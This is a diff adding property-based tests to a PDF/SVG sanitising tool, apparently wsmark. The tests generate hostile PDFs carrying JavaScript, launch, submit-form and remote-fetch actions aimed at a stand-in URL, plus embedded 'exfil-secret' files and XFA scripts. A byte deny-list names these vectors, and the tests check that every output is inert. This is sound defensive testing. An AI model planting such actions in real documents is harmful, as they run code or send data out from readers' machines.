@@ -14,6 +14,7 @@ import re
 import xml.etree.ElementTree as ET
 from base64 import b64decode
 from pathlib import Path
+from typing import Any
 
 import pypdf
 import pytest
@@ -346,3 +347,182 @@ def test_fixed_dxf_opens_nothing_outside_itself(tmp_path):
     assert not [b.name for b in doc.blocks if b.block is not None and b.block.is_xref]
     assert not [e for e in doc.entitydb.values() if e.has_xdata("PE_URL")]
     assert api.check(fixed.data, "fixed.dxf")[0].verdict == "pass"
+
+
+# --- every writer, over generated hostile proofs (make fuzz, make hostile) ------------
+
+#: Generated proofs through every writer: ``make fuzz`` and ``make hostile`` set it (a
+#: PDF takes about 2 CPU s through them all, an SVG 1); the suite runs none.
+WRITER_EXAMPLES = int(os.environ.get("WSMARK_WRITER_EXAMPLES", "0"))
+_writers = pytest.mark.skipif(not WRITER_EXAMPLES, reason="make fuzz / make hostile")
+#: What no file wsmark writes may hold, as bytes (a vector's own words).
+_WORDS = (HOST.encode(), b"/JavaScript", b"/URI", b"/Launch", b"/SubmitForm", b"/GoToR",
+          b"/GoToE", b"/ImportData", b"/Rendition", b"/EmbeddedFile", b"/XFA", b"app.alert",
+          b"calc.exe", b"exfil-secret")
+
+
+def _no_active_pdf(pdf: bytes, what: str) -> None:
+    assert active_content(pdf) == [], what
+    for word in _WORDS:
+        assert word not in pdf, (what, word)
+
+
+def _written(raw: bytes, name: str, tmp: Path, options: api.CheckOptions) -> dict[str, bytes]:
+    """Every file wsmark writes from the proof ``raw``: fix's compliant version as SVG and
+    PDF (where it can be written as that), its report and overlay pages; check's
+    marked-up copies (SVG and, as ``check --annotate x.pdf`` makes it, PDF) and its
+    clerk's report (``--report``), the last two through ``check_paths`` in budgeted
+    workers as the command does."""
+    out: dict[str, bytes] = {}
+    suffixes = (".svg", ".pdf") if name.endswith(".svg") else (".pdf",)
+    for suffix in suffixes:
+        fixed = api.fix(raw, name, suffix, options, overlay=suffix == suffixes[0])
+        if fixed.data is not None:
+            out[f"fixed{suffix}"] = fixed.data
+        if fixed.overlay:
+            out.update({f"overlay-{i}.svg": page for i, page in enumerate(fixed.overlay)})
+            out.update({f"fix-marked-{i}.svg": page for i, page in enumerate(fixed.marked)})
+            out["fix-report.pdf"] = api.fix_report(fixed)
+    report, marked = api.check(raw, name, options, annotate_copy=True)
+    if marked is not None:
+        out["marked.svg"] = marked
+    path = tmp / name
+    path.write_bytes(raw)
+    for _, _, made in api.check_paths([path], options, jobs=1, outputs=api.CheckOutputs(
+            copy=".pdf", report=True, stamp="")):
+        assert made is not None and made.refused is None, made
+        out["annotate.pdf"], out["report.pdf"] = made.pdf or b"", made.report or b""
+    return out
+
+
+def _assert_inert(out: dict[str, bytes]) -> None:
+    """Each output parsed back (SVG as XML, PDF by pypdf): nothing runs or fetches."""
+    for what, data in out.items():
+        if what.endswith(".svg"):
+            assert _active(data) == [], what
+        elif data:
+            _no_active_pdf(data, what)
+
+
+@_writers
+@settings(max_examples=max(1, WRITER_EXAMPLES), deadline=None,
+          suppress_health_check=list(HealthCheck))
+@given(raw=_hostile_proof())
+def test_every_writer_on_obfuscated_svg_vectors(tmp_path_factory, raw):
+    """Vendor SVGs with script, foreignObject, event attributes, CSS url() and @import
+    in escapes, through fix (SVG, PDF, overlay, report) and check (--annotate as SVG and
+    PDF, --report): nothing active in any of them, each parsed back."""
+    out = _written(raw, "vendor.svg", tmp_path_factory.mktemp("svg"),
+                   api.CheckOptions(display_height=24))
+    assert "fixed.svg" in out and "report.pdf" in out
+    _assert_inert(out)
+
+
+#: Action types (PDF 32000-1 12.6.4) a generated PDF carries, with what each names.
+_ACTIONS = {
+    "/JavaScript": lambda: {"/JS": TextStringObject("app.alert(1); this.submitForm("
+                                                    f"'{URL}/js')")},
+    "/URI": lambda: {"/URI": TextStringObject(f"{URL}/uri")},
+    "/Launch": lambda: {"/F": TextStringObject("calc.exe"),
+                        "/Win": DictionaryObject({NameObject("/F"): TextStringObject("calc.exe")})},
+    "/SubmitForm": lambda: {"/F": TextStringObject(f"{URL}/submit")},
+    "/ImportData": lambda: {"/F": TextStringObject(f"{URL}/data.fdf")},
+    "/GoToR": lambda: {"/F": TextStringObject(f"{URL}/remote.pdf"), "/D": ArrayObject(
+        [NumberObject(0)])},
+    "/GoToE": lambda: {"/F": TextStringObject(f"{URL}/embedded.pdf")},
+    "/Rendition": lambda: {"/JS": TextStringObject(f"app.launchURL('{URL}/r')")},
+}
+#: Where an action rides (PDF 32000-1 12.6.3): the document's open action, the document
+#: and page additional actions, an annotation's /A and /AA.
+_TRIGGERS = ("/WC", "/WS", "/DS", "/WP", "/DP")
+_PAGE_TRIGGERS = ("/O", "/C")
+_ANNOTS = ("/Link", "/Widget", "/Stamp", "/Screen", "/FileAttachment", "/RichMedia")
+
+
+def _action(draw, writer, depth: int = 0) -> Any:
+    kind = draw(st.sampled_from(sorted(_ACTIONS)))
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    action.update({NameObject(k): v for k, v in _ACTIONS[kind]().items()})
+    if kind == "/JavaScript" and draw(st.booleans()):  # the script as a stream
+        stream = StreamObject()
+        stream.set_data(b"app.alert('exfil-secret')")
+        action[NameObject("/JS")] = writer._add_object(stream)
+    if depth < 2 and draw(st.booleans()):  # a chain: /Next
+        action[NameObject("/Next")] = _action(draw, writer, depth + 1)
+    return writer._add_object(action) if draw(st.booleans()) else action
+
+
+def _annotation(draw, writer) -> Any:
+    subtype = draw(st.sampled_from(_ANNOTS))
+    annot = DictionaryObject({
+        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
+        NameObject("/Rect"): ArrayObject([NumberObject(v) for v in (0, 0, 2000, 2000)]),
+        NameObject("/A"): _action(draw, writer)})
+    if draw(st.booleans()):
+        annot[NameObject("/AA")] = DictionaryObject({NameObject(draw(st.sampled_from(
+            ("/E", "/X", "/D", "/U", "/Fo", "/PO")))): _action(draw, writer)})
+    if subtype == "/FileAttachment":
+        ef = StreamObject()
+        ef.set_data(b"exfil-secret")
+        ef[NameObject("/Type")] = NameObject("/EmbeddedFile")
+        annot[NameObject("/FS")] = DictionaryObject({
+            NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject(
+                "exfil.txt"), NameObject("/EF"): DictionaryObject({
+                    NameObject("/F"): writer._add_object(ef)})})
+    if subtype == "/RichMedia":
+        annot[NameObject("/RichMediaContent")] = DictionaryObject({
+            NameObject("/Assets"): DictionaryObject()})
+    return writer._add_object(annot)
+
+
+@st.composite
+def _hostile_pdf(draw) -> bytes:
+    """The turn-4 PDF proof with a random set of what runs, fetches or embeds: an open
+    action, document and page additional actions, a JavaScript name tree, embedded
+    files, an AcroForm with XFA (its script inside), annotations of six kinds carrying
+    actions of eight types, some chained (/Next), some in streams."""
+    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(DATA / "fix-keeps-pdf-javascript.pdf"))
+    root, page = writer._root_object, writer.pages[0]
+    if draw(st.booleans()):
+        root[NameObject("/OpenAction")] = _action(draw, writer)
+    for owner, triggers in ((root, _TRIGGERS), (page, _PAGE_TRIGGERS)):
+        chosen = draw(st.lists(st.sampled_from(triggers), unique=True, max_size=3))
+        if chosen:
+            owner[NameObject("/AA")] = DictionaryObject(
+                {NameObject(t): _action(draw, writer) for t in chosen})
+    for n in range(draw(st.integers(0, 2))):
+        writer.add_attachment(f"exfil-{n}.txt", b"exfil-secret")
+    if draw(st.booleans()):  # a document-level script (the /JavaScript name tree)
+        names = root.get("/Names") or DictionaryObject()
+        names = names.get_object()
+        names[NameObject("/JavaScript")] = DictionaryObject({NameObject("/Names"): ArrayObject(
+            [TextStringObject("wsmark"), _action(draw, writer)])})
+        root[NameObject("/Names")] = names
+    if draw(st.booleans()):
+        xfa = StreamObject()
+        xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>'
+                     b"app.alert('exfil-secret')</script></xdp:xdp>")
+        root[NameObject("/AcroForm")] = DictionaryObject({
+            NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)})
+    annots = page.get("/Annots") or ArrayObject()
+    for _ in range(draw(st.integers(0, 4))):
+        annots.append(_annotation(draw, writer))
+    page[NameObject("/Annots")] = annots
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+@_writers
+@settings(max_examples=max(1, WRITER_EXAMPLES), deadline=None,
+          suppress_health_check=list(HealthCheck))
+@given(raw=_hostile_pdf())
+def test_every_writer_on_generated_active_pdfs(tmp_path_factory, raw):
+    """Vendor PDFs with every kind of action, annotation, embedded file and XFA through
+    fix (PDF, overlay, report) and check (--annotate as SVG and PDF, --report): nothing
+    active in any of them, each parsed back (pypdf), and the fixed file still passes."""
+    assert any("/AA" in f for f in active_content(raw))
+    out = _written(raw, "vendor.pdf", tmp_path_factory.mktemp("pdf"), api.CheckOptions())
+    assert "fixed.pdf" in out and "report.pdf" in out
+    _assert_inert(out)
+    assert api.check(out["fixed.pdf"], "fixed.pdf")[0].verdict == "pass"
